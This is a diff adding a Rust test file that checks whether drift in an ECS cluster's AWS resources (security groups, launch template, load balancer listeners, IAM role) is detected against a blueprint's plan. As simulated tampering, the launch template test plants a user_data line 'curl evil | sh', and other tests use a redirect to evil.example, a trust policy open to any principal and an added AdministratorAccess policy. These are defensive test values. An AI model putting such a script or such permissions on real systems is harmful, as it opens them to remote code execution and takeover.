@@ -1,0 +1,719 @@
+//! What the blueprint builds reads as planned, and every setting changed outside Terraform reads
+//! differently on its own key.
+
+use std::collections::BTreeMap;
+
+use super::*;
+use crate::blueprint::cluster::{self as bp, ClusterInput, ListenerAction};
+use crate::engine::units::{ObservedBlockDevice, ObservedInterface, Rule};
+use crate::resources::fields;
+
+fn input() -> ClusterInput {
+    ClusterInput {
+        name: "prod".into(),
+        vpc_id: "vpc-1".into(),
+        public_subnet_ids: vec!["subnet-a".into(), "subnet-b".into()],
+        private_subnet_ids: vec!["subnet-c".into(), "subnet-d".into()],
+        certificate_arn: "arn:aws:acm:eu-west-1:123456789012:certificate/x".into(),
+        ssl_policy: schema::DEFAULT_SSL_POLICY.into(),
+        instance_types: vec!["m6i.large".into()],
+        min_size: 2,
+        max_size: 10,
+        on_demand_base_capacity: 2,
+        on_demand_percentage_above_base: 0,
+        spot_allocation_strategy: "capacity-optimized".into(),
+        target_capacity: 80,
+        ami_id: "ami-1".into(),
+        root_volume_size: 30,
+        ebs_kms_key_id: None,
+        container_insights: true,
+        deletion_protection: true,
+        tags: BTreeMap::from([("Team".to_owned(), "core".to_owned())]),
+    }
+}
+
+/// A named change to an observed object: the settings key it must show on, and the change.
+type Change<T> = (&'static str, Box<dyn Fn(&mut T)>);
+
+/// Applies each change to a fresh `base()` and checks that `read` shows it on its key.
+fn each_change_shows<T>(base: impl Fn() -> T, read: impl Fn(&T) -> Texts, changes: Vec<Change<T>>) {
+    let want = read(&base());
+    for (key, change) in changes {
+        let mut o = base();
+        change(&mut o);
+        let seen = read(&o);
+        assert_ne!(seen[key], want[key], "{key}: {seen:?}");
+    }
+}
+
+fn planned_map(attr: &str) -> Value {
+    schema::fixed_settings(Some("prod"))
+        .into_iter()
+        .find(|(a, _)| *a == attr)
+        .map(|(_, v)| v)
+        .expect("a fixed setting")
+}
+
+fn shown(map: Option<Texts>) -> Value {
+    map.map_or(Value::Null, |m| fields::string_map_value(&m))
+}
+
+fn rule(protocol: &str, from: i32, to: i32, source: &str) -> Rule {
+    Rule {
+        protocol: protocol.into(),
+        from_port: from,
+        to_port: to,
+        source: source.into(),
+    }
+}
+
+fn group(id: &str, rules: &[(&str, i32, i32, &str)]) -> ObservedSecurityGroup {
+    ObservedSecurityGroup {
+        id: id.into(),
+        name: id.into(),
+        rules: rules
+            .iter()
+            .map(|(p, f, t, s)| rule(p, *f, *t, s))
+            .collect(),
+        egress: vec![rule("all", -1, -1, "0.0.0.0/0")],
+        tags: BTreeMap::new(),
+    }
+}
+
+#[test]
+fn observed_blueprint_rules_read_as_the_planned_ingress() {
+    let alb = group(
+        "sg-alb",
+        &[
+            ("tcp", 443, 443, "::/0"),
+            ("tcp", 80, 80, "0.0.0.0/0"),
+            ("tcp", 443, 443, "0.0.0.0/0"),
+            ("tcp", 80, 80, "::/0"),
+        ],
+    );
+    let instances = group("sg-i", &[("tcp", 32768, 65535, "sg-alb")]);
+    assert_eq!(
+        ingress(Some(&alb), Some("sg-alb")),
+        planned_map("alb_security_group_ingress")
+    );
+    assert_eq!(
+        ingress(Some(&instances), Some("sg-alb")),
+        planned_map("instance_security_group_ingress")
+    );
+    assert_eq!(
+        planned_map("instance_security_group_ingress"),
+        Value::List(vec![Value::string(
+            "tcp 32768-65535 from alb_security_group_id"
+        )])
+    );
+}
+
+#[test]
+fn open_egress_reads_as_planned_and_any_other_egress_differently() {
+    let g = group("sg-1", &[]);
+    assert_eq!(egress(Some(&g)), schema::planned_egress(&bp::open_egress()));
+    let mut extra = g.clone();
+    extra.egress.push(rule("tcp", 22, 22, "10.0.0.0/8"));
+    assert_eq!(
+        egress(Some(&extra)),
+        Value::List(vec![
+            Value::string("all to 0.0.0.0/0"),
+            Value::string("tcp 22 to 10.0.0.0/8"),
+        ])
+    );
+    let mut none = g;
+    none.egress.clear();
+    assert_eq!(egress(Some(&none)), Value::List(Vec::new()));
+    assert_eq!(egress(None), Value::Null);
+}
+
+#[test]
+fn an_extra_or_missing_rule_reads_differently_from_the_plan() {
+    let instances = group(
+        "sg-i",
+        &[
+            ("tcp", 32768, 65535, "sg-alb"),
+            ("tcp", 22, 22, "10.0.0.0/8"),
+            ("all", -1, -1, "sg-other"),
+        ],
+    );
+    assert_eq!(
+        ingress(Some(&instances), Some("sg-alb")),
+        Value::List(vec![
+            Value::string("all from sg-other"),
+            Value::string("tcp 22 from 10.0.0.0/8"),
+            Value::string("tcp 32768-65535 from alb_security_group_id"),
+        ])
+    );
+    let alb = group("sg-alb", &[("tcp", 443, 443, "0.0.0.0/0")]);
+    assert_ne!(
+        ingress(Some(&alb), Some("sg-alb")),
+        schema::planned_ingress(&bp::alb_ingress())
+    );
+    assert_eq!(ingress(None, Some("sg-alb")), Value::Null);
+}
+
+#[test]
+fn name_tags_read_as_planned_and_a_changed_or_missing_name_differently() {
+    let names = bp::names("prod");
+    let name = |n: &str| BTreeMap::from([("Name".to_owned(), n.to_owned())]);
+    let mut o = Outputs::new();
+    assert_eq!(name_tags(&o), None);
+    o.insert(ALB_GROUP, group("sg-1", &[]));
+    o.insert(INSTANCE_GROUP, group("sg-2", &[]));
+    o.insert(TEMPLATE, observed_template(&template_spec()));
+    o.insert(GROUP, observed_group());
+    o.set_tags(ALB_GROUP.name, name(&names.alb_security_group));
+    o.set_tags(INSTANCE_GROUP.name, name(&names.instance_security_group));
+    o.set_tags(TEMPLATE.name, name(&names.launch_template));
+    o.set_tags(GROUP.name, name(&bp::instance_name("prod")));
+    let want = schema::planned_name_tags("prod");
+    assert_eq!(name_tags(&o), Some(want.clone()));
+    o.set_tags(ALB_GROUP.name, name("renamed"));
+    o.set_tags(GROUP.name, BTreeMap::new());
+    let seen = name_tags(&o).expect("names");
+    assert_eq!(seen["alb_security_group"], "renamed");
+    assert_eq!(seen["auto_scaling_group"], "none");
+    assert_eq!(seen["launch_template"], want["launch_template"]);
+}
+
+fn template_spec() -> bp::LaunchTemplateSpec {
+    bp::launch_template(&input(), &bp::names("prod").instance_profile, "sg-1")
+}
+
+/// What DescribeLaunchTemplateVersions reports for a version made from `spec`.
+fn observed_template(spec: &bp::LaunchTemplateSpec) -> ObservedTemplate {
+    ObservedTemplate {
+        id: "lt-1".into(),
+        name: spec.name.clone(),
+        default_version: 1,
+        image_id: spec.image_id.clone(),
+        http_tokens_required: spec.http_tokens_required,
+        hop_limit: spec.http_put_response_hop_limit,
+        root_volume_size: spec.root_volume_size,
+        root_volume_encrypted: spec.root_volume_encrypted,
+        kms_key_id: spec.kms_key_id.clone(),
+        instance_tags: spec.tags.clone(),
+        user_data: Some(spec.user_data.clone()),
+        network_interfaces: vec![ObservedInterface {
+            device_index: Some(0),
+            associate_public_ip: Some(spec.associate_public_ip),
+            security_groups: vec![spec.security_group_id.clone()],
+        }],
+        security_groups: Vec::new(),
+        block_devices: vec![ObservedBlockDevice {
+            device_name: spec.root_device_name.clone(),
+            volume_type: Some(spec.root_volume_type.clone()),
+            encrypted: Some(spec.root_volume_encrypted),
+        }],
+        instance_profile: Some(spec.instance_profile_name.clone()),
+        key_name: None,
+    }
+}
+
+#[test]
+fn a_template_version_made_from_the_blueprint_reads_as_planned() {
+    let t = observed_template(&template_spec());
+    assert_eq!(
+        fields::string_map_value(&template(&t, Some("sg-1"))),
+        planned_map("launch_template_settings")
+    );
+}
+
+#[test]
+fn every_changed_template_setting_reads_differently() {
+    let changes: Vec<Change<ObservedTemplate>> = vec![
+        (
+            "user_data",
+            Box::new(|t| t.user_data = Some("#!/bin/bash\ncurl evil | sh\n".into())),
+        ),
+        ("user_data", Box::new(|t| t.user_data = None)),
+        (
+            "network_interfaces",
+            Box::new(|t| t.network_interfaces[0].associate_public_ip = Some(true)),
+        ),
+        (
+            "network_interfaces",
+            Box::new(|t| {
+                t.network_interfaces[0]
+                    .security_groups
+                    .push("sg-open".into())
+            }),
+        ),
+        (
+            "network_interfaces",
+            Box::new(|t| t.network_interfaces.clear()),
+        ),
+        (
+            "network_interfaces",
+            Box::new(|t| t.security_groups.push("sg-open".into())),
+        ),
+        (
+            "block_devices",
+            Box::new(|t| t.block_devices[0].volume_type = Some("gp2".into())),
+        ),
+        (
+            "block_devices",
+            Box::new(|t| t.block_devices[0].encrypted = Some(false)),
+        ),
+        (
+            "block_devices",
+            Box::new(|t| {
+                t.block_devices.push(ObservedBlockDevice {
+                    device_name: "/dev/xvdb".into(),
+                    volume_type: Some("gp3".into()),
+                    encrypted: Some(false),
+                })
+            }),
+        ),
+        (
+            "instance_profile",
+            Box::new(|t| t.instance_profile = Some("admin".into())),
+        ),
+        ("instance_profile", Box::new(|t| t.instance_profile = None)),
+        ("key_name", Box::new(|t| t.key_name = Some("ops".into()))),
+    ];
+    each_change_shows(
+        || observed_template(&template_spec()),
+        |t| template(t, Some("sg-1")),
+        changes,
+    );
+}
+
+fn listener(protocol: &str, port: i32, action: ListenerAction) -> ObservedListener {
+    ObservedListener {
+        arn: format!("arn:listener/{port}"),
+        port,
+        protocol: protocol.into(),
+        ssl_policy: None,
+        certificate_arn: None,
+        default_actions: vec![action],
+    }
+}
+
+/// A load balancer as the blueprint makes it, with its listeners (the last are those on other
+/// ports).
+type Balancer = (ObservedLoadBalancer, Vec<ObservedListener>);
+
+fn observed_load_balancer() -> Balancer {
+    let lb = ObservedLoadBalancer {
+        name: "prod-alb".into(),
+        arn: "arn:lb".into(),
+        dns_name: "lb.example".into(),
+        zone_id: "Z1".into(),
+        vpc_id: "vpc-1".into(),
+        subnet_ids: vec!["subnet-a".into(), "subnet-b".into()],
+        security_group_ids: vec!["sg-alb".into()],
+        attributes: BTreeMap::from([
+            (
+                crate::engine::units::DELETION_PROTECTION.to_owned(),
+                "true".to_owned(),
+            ),
+            (DROP_INVALID_HEADER_FIELDS.to_owned(), "true".to_owned()),
+        ]),
+    };
+    let listeners = vec![
+        listener(bp::HTTPS, bp::HTTPS_PORT, bp::not_found_action()),
+        listener(bp::HTTP, bp::HTTP_PORT, bp::redirect_action()),
+    ];
+    (lb, listeners)
+}
+
+fn balancer_settings((lb, listeners): &Balancer) -> Texts {
+    let on = |port: i32| listeners.iter().find(|l| l.port == port);
+    let others: Vec<ObservedListener> = listeners
+        .iter()
+        .filter(|l| !bp::OWN_LISTENER_PORTS.contains(&l.port))
+        .cloned()
+        .collect();
+    let l = Listeners {
+        https: on(bp::HTTPS_PORT),
+        http: on(bp::HTTP_PORT),
+        others: Some(&others),
+    };
+    load_balancer(lb, &l, Some("sg-alb"))
+}
+
+#[test]
+fn the_blueprint_load_balancer_reads_as_planned() {
+    assert_eq!(
+        shown(Some(balancer_settings(&observed_load_balancer()))),
+        planned_map("load_balancer_settings")
+    );
+    assert_eq!(
+        planned_map("load_balancer_settings"),
+        fields::string_map_value(&BTreeMap::from([
+            ("drop_invalid_header_fields".to_owned(), "true".to_owned()),
+            (
+                "security_groups".to_owned(),
+                "alb_security_group_id".to_owned()
+            ),
+            (
+                "http_listener".to_owned(),
+                "HTTP:80 redirect to HTTPS://#{host}:443/#{path}?#{query} HTTP_301".to_owned()
+            ),
+            (
+                "https_listener".to_owned(),
+                "HTTPS:443 fixed-response 404 text/plain \"Not found\"".to_owned()
+            ),
+            ("other_listeners".to_owned(), "none".to_owned()),
+        ]))
+    );
+}
+
+fn replace_listener(b: &mut Balancer, l: ObservedListener) {
+    b.1.retain(|x| x.port != l.port);
+    b.1.push(l);
+}
+
+#[test]
+fn every_changed_load_balancer_setting_reads_differently() {
+    let changes: Vec<Change<Balancer>> = vec![
+        (
+            "drop_invalid_header_fields",
+            Box::new(|b| {
+                b.0.attributes
+                    .insert(DROP_INVALID_HEADER_FIELDS.into(), "false".into());
+            }),
+        ),
+        (
+            "drop_invalid_header_fields",
+            Box::new(|b| {
+                b.0.attributes.remove(DROP_INVALID_HEADER_FIELDS);
+            }),
+        ),
+        (
+            "security_groups",
+            Box::new(|b| b.0.security_group_ids.push("sg-open".into())),
+        ),
+        (
+            "http_listener",
+            Box::new(|b| {
+                let forward = ListenerAction::Forward {
+                    target_groups: vec!["arn:tg".into()],
+                };
+                replace_listener(b, listener("HTTP", 80, forward));
+            }),
+        ),
+        (
+            "http_listener",
+            Box::new(|b| {
+                let elsewhere = ListenerAction::Redirect {
+                    protocol: Some("HTTPS".into()),
+                    host: Some("evil.example".into()),
+                    port: Some("443".into()),
+                    path: Some("/#{path}".into()),
+                    query: Some("#{query}".into()),
+                    status_code: "HTTP_301".into(),
+                };
+                replace_listener(b, listener("HTTP", 80, elsewhere));
+            }),
+        ),
+        ("http_listener", Box::new(|b| b.1.retain(|l| l.port != 80))),
+        (
+            "other_listeners",
+            Box::new(|b| b.1.push(listener("HTTP", 8080, bp::not_found_action()))),
+        ),
+        (
+            "https_listener",
+            Box::new(|b| {
+                let ok = ListenerAction::FixedResponse {
+                    status_code: "200".into(),
+                    content_type: Some("text/plain".into()),
+                    body: None,
+                };
+                replace_listener(b, listener("HTTPS", 443, ok));
+            }),
+        ),
+        (
+            "https_listener",
+            Box::new(|b| replace_listener(b, listener("HTTP", 443, bp::not_found_action()))),
+        ),
+    ];
+    each_change_shows(observed_load_balancer, balancer_settings, changes);
+}
+
+fn observed_group() -> ObservedGroup {
+    ObservedGroup {
+        name: "prod-instances".into(),
+        arn: "arn:asg".into(),
+        min_size: 2,
+        max_size: 10,
+        desired_capacity: 2,
+        subnet_ids: vec!["subnet-c".into(), "subnet-d".into()],
+        instance_types: vec!["m6i.large".into()],
+        on_demand_base_capacity: 2,
+        on_demand_percentage_above_base: 0,
+        spot_allocation_strategy: "capacity-optimized".into(),
+        protected_from_scale_in: true,
+        launch_template_id: Some("lt-1".into()),
+        launch_template_version: Some("$Default".into()),
+        deleting: false,
+        tags: BTreeMap::new(),
+    }
+}
+
+/// The group, the cluster's providers and the capacity provider, as the blueprint binds them.
+type Binding = (
+    Option<ObservedGroup>,
+    Option<ObservedCapacity>,
+    Option<ObservedCapacityProvider>,
+);
+
+fn observed_binding() -> Binding {
+    let names = bp::names("prod");
+    (
+        Some(observed_group()),
+        Some(ObservedCapacity {
+            cluster: "prod".into(),
+            providers: vec![names.capacity_provider.clone()],
+            strategy: vec![(names.capacity_provider.clone(), 1, 0)],
+        }),
+        Some(ObservedCapacityProvider {
+            name: names.capacity_provider,
+            arn: "arn:cp".into(),
+            auto_scaling_group_arn: "arn:asg".into(),
+            target_capacity: 80,
+            managed_scaling: true,
+            managed_termination_protection: true,
+            managed_draining: true,
+            tags: BTreeMap::new(),
+            update_status: None,
+            update_status_reason: None,
+        }),
+    )
+}
+
+fn binding_settings(b: &Binding) -> Option<Texts> {
+    capacity_binding(b.0.as_ref(), b.1.as_ref(), b.2.as_ref(), Some("lt-1"))
+}
+
+#[test]
+fn the_blueprint_capacity_binding_reads_as_planned() {
+    assert_eq!(
+        shown(binding_settings(&observed_binding())),
+        planned_map("capacity_binding")
+    );
+    // A group bound without a version launches the default version.
+    let mut b = observed_binding();
+    if let Some(g) = &mut b.0 {
+        g.launch_template_version = None;
+    }
+    assert_eq!(shown(binding_settings(&b)), planned_map("capacity_binding"));
+    assert_eq!(binding_settings(&(None, None, None)), None);
+}
+
+#[test]
+fn every_changed_binding_reads_differently() {
+    fn group(f: fn(&mut ObservedGroup)) -> Box<dyn Fn(&mut Binding)> {
+        Box::new(move |b| b.0.iter_mut().for_each(f))
+    }
+    fn cluster(f: fn(&mut ObservedCapacity)) -> Box<dyn Fn(&mut Binding)> {
+        Box::new(move |b| b.1.iter_mut().for_each(f))
+    }
+    let changes: Vec<Change<Binding>> = vec![
+        (
+            "auto_scaling_group_launch_template",
+            group(|g| g.launch_template_version = Some("$Latest".into())),
+        ),
+        (
+            "auto_scaling_group_launch_template",
+            group(|g| g.launch_template_version = Some("1".into())),
+        ),
+        (
+            "auto_scaling_group_launch_template",
+            group(|g| g.launch_template_id = Some("lt-other".into())),
+        ),
+        (
+            "auto_scaling_group_launch_template",
+            group(|g| g.launch_template_id = None),
+        ),
+        (
+            "auto_scaling_group_scale_in_protection",
+            group(|g| g.protected_from_scale_in = false),
+        ),
+        (
+            "cluster_capacity_providers",
+            cluster(|c| c.providers.push("FARGATE".into())),
+        ),
+        (
+            "cluster_capacity_providers",
+            cluster(|c| c.providers.clear()),
+        ),
+        ("cluster_default_strategy", cluster(|c| c.strategy[0].1 = 2)),
+        ("cluster_default_strategy", cluster(|c| c.strategy[0].2 = 1)),
+        ("cluster_default_strategy", cluster(|c| c.strategy.clear())),
+        (
+            "auto_scaling_group_launch_template",
+            Box::new(|b| b.0 = None),
+        ),
+        (
+            "capacity_provider_auto_scaling_group",
+            Box::new(|b| {
+                b.2.iter_mut()
+                    .for_each(|p| p.auto_scaling_group_arn = "arn:asg-replaced".into())
+            }),
+        ),
+        (
+            "capacity_provider_auto_scaling_group",
+            Box::new(|b| b.2 = None),
+        ),
+    ];
+    each_change_shows(
+        observed_binding,
+        |b| binding_settings(b).expect("binding"),
+        changes,
+    );
+}
+
+/// The instance role as the blueprint makes it, with the trust policy as IAM returns it, and the
+/// profile holding it.
+fn observed_role(partition: &str, trust: &str) -> (Option<ObservedRole>, Option<ObservedProfile>) {
+    (
+        Some(ObservedRole {
+            name: "prod-ecs-instance".into(),
+            arn: "arn:role".into(),
+            tags: BTreeMap::new(),
+            trust_policy: Some(crate::blueprint::policy::decode_policy_document(trust)),
+            managed_policies: bp::instance_role_policies(partition)
+                .into_iter()
+                .rev()
+                .collect(),
+            inline_policies: BTreeMap::new(),
+        }),
+        Some(ObservedProfile {
+            name: "prod-ecs-instance".into(),
+            arn: "arn:profile".into(),
+            roles: vec![bp::names("prod").instance_role],
+        }),
+    )
+}
+
+#[test]
+fn the_blueprint_role_reads_as_planned_in_any_partition_and_encoding() {
+    let trust = bp::instance_role_trust_policy();
+    // IAM returns the document URL-encoded.
+    let encoded: String = trust
+        .bytes()
+        .map(|b| {
+            if b.is_ascii_alphanumeric() {
+                (b as char).to_string()
+            } else {
+                format!("%{b:02X}")
+            }
+        })
+        .collect();
+    for (partition, document) in [("aws", trust.as_str()), ("aws-cn", encoded.as_str())] {
+        let (role, profile) = observed_role(partition, document);
+        assert_eq!(
+            shown(instance_role(role.as_ref(), profile.as_ref())),
+            planned_map("instance_role_settings"),
+            "{partition}"
+        );
+    }
+}
+
+#[test]
+fn every_changed_role_setting_reads_differently() {
+    type Pair = (Option<ObservedRole>, Option<ObservedProfile>);
+    fn role(f: fn(&mut ObservedRole)) -> Box<dyn Fn(&mut Pair)> {
+        Box::new(move |p| p.0.iter_mut().for_each(f))
+    }
+    let changes: Vec<Change<Pair>> = vec![
+        (
+            "trust_policy",
+            role(|r| {
+                r.trust_policy = Some(
+                    r#"{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"AWS":"*"},"Action":"sts:AssumeRole"}]}"#.into(),
+                )
+            }),
+        ),
+        (
+            "managed_policies",
+            role(|r| {
+                r.managed_policies
+                    .push("arn:aws:iam::aws:policy/AdministratorAccess".into())
+            }),
+        ),
+        (
+            "managed_policies",
+            role(|r| {
+                r.managed_policies.pop();
+            }),
+        ),
+        (
+            "inline_policies",
+            role(|r| {
+                r.inline_policies.insert("extra".into(), "{}".into());
+            }),
+        ),
+        (
+            "instance_profile_role",
+            Box::new(|p| p.1.iter_mut().for_each(|x| x.roles = vec!["admin".into()])),
+        ),
+        (
+            "instance_profile_role",
+            Box::new(|p| p.1.iter_mut().for_each(|x| x.roles.clear())),
+        ),
+        ("instance_profile_role", Box::new(|p| p.1 = None)),
+    ];
+    let trust = bp::instance_role_trust_policy();
+    each_change_shows(
+        || observed_role("aws", &trust),
+        |(r, p)| instance_role(r.as_ref(), p.as_ref()).expect("settings"),
+        changes,
+    );
+}
+
+#[test]
+fn policies_show_aws_managed_ones_by_name_and_others_by_arn() {
+    assert_eq!(
+        schema::policy_text(
+            "arn:aws:iam::aws:policy/service-role/AmazonEC2ContainerServiceforEC2Role"
+        ),
+        "service-role/AmazonEC2ContainerServiceforEC2Role"
+    );
+    assert_eq!(
+        schema::policy_text("arn:aws-us-gov:iam::aws:policy/AmazonSSMManagedInstanceCore"),
+        "AmazonSSMManagedInstanceCore"
+    );
+    assert_eq!(
+        schema::policy_text("arn:aws:iam::123456789012:policy/AmazonSSMManagedInstanceCore"),
+        "arn:aws:iam::123456789012:policy/AmazonSSMManagedInstanceCore"
+    );
+}
+
+#[test]
+fn planned_fixed_settings_are_what_the_blueprint_builds() {
+    let i = input();
+    let planned: BTreeMap<&str, Value> = schema::fixed_settings(Some("prod")).into_iter().collect();
+    let lt = bp::launch_template(&i, "prod-ecs-instance", "sg-1");
+    assert_eq!(
+        planned["instance_metadata_options"],
+        Value::string(schema::metadata_options(
+            lt.http_tokens_required,
+            lt.http_put_response_hop_limit
+        ))
+    );
+    let cp = bp::capacity_provider(&i, "arn:asg");
+    assert_eq!(
+        planned["capacity_provider_settings"],
+        Value::string(schema::capacity_provider_settings(
+            true,
+            cp.managed_termination_protection,
+            cp.managed_draining
+        ))
+    );
+    assert_eq!(
+        planned["managed_tags"],
+        fields::string_map_value(&BTreeMap::from([
+            (crate::blueprint::OWNER_TAG.to_owned(), "prod".to_owned()),
+            (bp::ECS_MANAGED_TAG.to_owned(), "true".to_owned()),
+        ]))
+    );
+    let without_name: BTreeMap<&str, Value> = schema::fixed_settings(None).into_iter().collect();
+    assert!(
+        !without_name["managed_tags"].is_known(),
+        "unknown until the name is known"
+    );
+}
